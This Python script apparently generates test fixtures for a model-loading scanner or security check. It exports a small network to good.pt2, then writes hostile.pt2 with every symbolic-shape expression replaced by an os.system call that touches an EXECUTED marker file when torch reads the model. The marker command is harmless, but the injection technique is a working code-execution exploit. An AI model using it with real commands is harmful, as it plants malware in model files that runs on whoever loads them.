"""Model files that are programs, run as a script: ``python programs.py FOLDER``.

``good.pt2`` is a small network for card torchvision. ``hostile.pt2`` is the same with sizes whose text makes the file
FOLDER/EXECUTED when torch reads it.
"""

import json
import sys
import warnings
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any


def _expressions(node: Any) -> Iterator[dict[str, Any]]:
    if isinstance(node, dict):
        if "expr_str" in node:
            yield node
        for value in node.values():
            yield from _expressions(value)
    elif isinstance(node, list):
        for value in node:
            yield from _expressions(value)


def write(folder: Path) -> None:
    """Both files."""
    import torch

    warnings.simplefilter("ignore")

    class Small(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            torch.manual_seed(3)
            self.conv, self.fc = torch.nn.Conv2d(3, 16, 11, 4, 2), torch.nn.Linear(16, 1000)

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            found: torch.Tensor = self.fc(self.conv(x).relu().mean((2, 3)))
            return found

    shapes = ({0: torch.export.Dim("batch", min=1, max=64)},)
    exported = torch.export.export(Small().eval(), (torch.zeros(2, 3, 224, 224),), dynamic_shapes=shapes)
    torch.export.save(exported, folder / "good.pt2")
    text = f"Max(\"__import__('os').system('touch {folder / 'EXECUTED'}')\", 2)"
    with zipfile.ZipFile(folder / "good.pt2") as good, zipfile.ZipFile(folder / "hostile.pt2", "w") as hostile:
        for member in good.namelist():
            data = good.read(member)
            if "/models/" in member and member.endswith(".json"):
                graph = json.loads(data)
                for found in _expressions(graph):
                    found["expr_str"] = text
                data = json.dumps(graph).encode()
            hostile.writestr(member, data)


if __name__ == "__main__":
    write(Path(sys.argv[1]))
